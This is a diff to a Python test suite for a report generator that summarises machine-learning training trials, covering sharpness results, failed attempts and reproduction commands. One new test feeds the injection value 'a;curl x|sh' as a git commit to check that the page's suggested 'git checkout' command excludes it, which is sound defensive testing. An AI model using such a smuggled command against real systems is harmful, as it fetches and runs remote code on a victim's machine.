@@ -138,7 +138,7 @@ def test_scripts_never_end_early_and_plotly_has_its_licence() -> None:
 
 
 def test_a_copy_of_tables_alone_is_enough_and_stays_as_it_is(run, column, tmp_path) -> None:
-    run.add(column(sweep="of a friend", git_commit="abc", git_dirty=True, hostname="n1"))
+    run.add(column(sweep="of a friend", git_commit="abc1234", git_dirty=True, hostname="n1"))
     copy = tmp_path / "copy"
     copy.mkdir()
     shutil.copytree(run.path / "trials", copy / "trials")
@@ -151,12 +151,12 @@ def test_a_copy_of_tables_alone_is_enough_and_stays_as_it_is(run, column, tmp_pa
     assert sorted(copy.rglob("*")) == before
     assert path == tmp_path / "page" / "index.html"
     words = Elements(path.read_text(encoding="utf-8")).words
-    assert "analysis with these tables is missing or older than the last trial" in words
+    assert "analysis with these tables is missing or was not made of these files of trials" in words
     assert "holds Below η_c the final sharpness does not depend on η." in words
     assert "The sweep file is not with these tables" in words
     assert "No attempt has failed, as far as these tables tell." in words
-    assert "PyTorch trials not known abc yes not known 6" in words
-    assert "git checkout abc" in words
+    assert "PyTorch trials not known abc1234 yes not known 6" in words
+    assert "git checkout abc1234" in words
     assert "n1 not known not known 6 not known" in words
 
 
@@ -202,7 +202,7 @@ def test_a_trial_that_failed_is_said_with_its_error_and_host(run, column) -> Non
     run.add([{**lost, "attempt": 1}, {**lost, "attempt": 2}], "attempts")
     words = read(run).words
     assert "6 settled trials, 1 that failed." in words
-    assert "1 trial has failed and no result." in words
+    assert "1 trial failed and has no result so far." in words
     assert "failed out_of_memory no memory left n7 2 1" in words
 
 
@@ -280,3 +280,29 @@ def test_a_long_run_keeps_its_lowest_and_highest_sharpness_in_few_points(
     monkeypatch.setattr(paths, "ALL_POINTS", 60)
     (path,) = read(run).data["paths"]["runs"]
     assert len(path["time"]) <= 60
+
+
+def test_a_trial_that_was_lost_with_its_process_has_no_result(run, column) -> None:
+    run.add(column())
+    lost = {"outcome": "lost", "failure_class": "node_failure", "error": "the process died"}
+    run.add([{"trial_id": "z", "attempt": 1, **lost}], "attempts")
+    assert "1 trial failed and has no result so far." in read(run).words
+
+
+@pytest.mark.parametrize(
+    ("commit", "is_said"), [("0123abc", True), ("a" * 40, True), ("a;curl x|sh", False)]
+)
+def test_a_command_to_paste_has_nothing_from_the_tables_but_a_commit(
+    run, column, commit: str, is_said: bool
+) -> None:
+    run.add(column(git_commit=commit))
+    assert (f"git checkout {commit}" in read(run).words) == is_said
+
+
+def test_a_run_whose_critical_rate_is_not_known_is_not_drawn_in_time(run, column) -> None:
+    rows = column(epsilons=(0.1,))
+    for row in rows:
+        row["eta_c"] = None if row["eta"] == 0.05 else row["eta_c"]
+    run.add(rows)
+    add_path(run, 5)
+    assert read(run).data["paths"]["runs"] == []
